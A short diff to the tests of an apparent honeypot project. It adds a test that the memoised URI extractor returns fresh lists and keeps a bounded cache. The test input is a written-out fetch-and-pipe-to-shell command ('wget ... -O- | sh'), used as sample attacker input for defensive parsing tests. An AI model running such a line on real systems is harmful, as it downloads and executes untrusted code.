@@ -7,6 +7,7 @@ import pytest
 from repro.honeypot.auth import DEFAULT_POLICY, CredentialPolicy
 from repro.honeypot.cowrie import MAX_LINES_PER_SESSION, CowrieHoneypot
 from repro.honeypot.session import ConnectionIntent, FileOp, Protocol
+from repro.honeypot import uri
 from repro.honeypot.uri import extract_uris
 
 
@@ -166,3 +167,11 @@ class TestUriExtraction:
 
     def test_quotes_not_included(self):
         assert extract_uris("curl 'http://a/x'") == ["http://a/x"]
+
+    def test_memo_returns_fresh_equal_lists(self):
+        text = "wget http://a/1 -O- | sh; tftp://b/2"
+        first = extract_uris(text)
+        assert first == list(uri._scan.__wrapped__(text))
+        first.clear()
+        assert extract_uris(text) == ["http://a/1", "tftp://b/2"]
+        assert uri._scan.cache_info().currsize <= 256
